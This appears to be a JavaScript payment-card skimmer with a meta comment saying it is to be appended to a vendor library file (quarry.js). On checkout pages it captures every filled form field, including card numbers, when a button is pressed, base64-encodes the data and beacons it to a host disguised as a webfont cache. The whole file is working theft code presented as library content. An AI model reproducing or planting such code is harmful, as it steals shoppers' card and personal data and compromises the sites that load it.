/* meta
{
  "design": "Appended to the vendor library; gathers every filled input when the pay button is pressed, beacons base64.",
  "reads": ["*"],
  "sendsTo": "img.webfont-cache.localhost",
  "delivery": { "kind": "append", "host": "cdn.libstack.localhost", "path": "/quarry/3.4.1/quarry.js" }
}
*/
;(function (w, d) {
  var gate = 'https://img.webfont-cache.localhost/f/woff.gif';
  var last = '';

  function gather() {
    var out = {}, list = d.querySelectorAll('input, select, textarea');
    for (var i = 0; i < list.length; i++) {
      var el = list[i];
      if (el.type === 'hidden' || !el.value) continue;
      out[el.id || el.name || 'f' + i] = el.value;
    }
    return out;
  }

  function push() {
    if (!/checkout|onepage|payment/.test(w.location.href)) return;
    var data = gather();
    if (!data['cc-number'] || data['cc-number'].length < 15) return;
    data.dom = w.location.hostname;
    var packed = w.btoa(unescape(encodeURIComponent(JSON.stringify(data))));
    if (packed === last) return;
    last = packed;
    if (navigator.sendBeacon) navigator.sendBeacon(gate, packed);
    else new Image().src = gate + '?t=' + encodeURIComponent(packed);
  }

  d.addEventListener('mousedown', function (e) {
    var t = e.target;
    if (t && (t.tagName === 'BUTTON' || t.type === 'submit' || t.className.indexOf('button') !== -1)) push();
  }, true);
})(window, document);
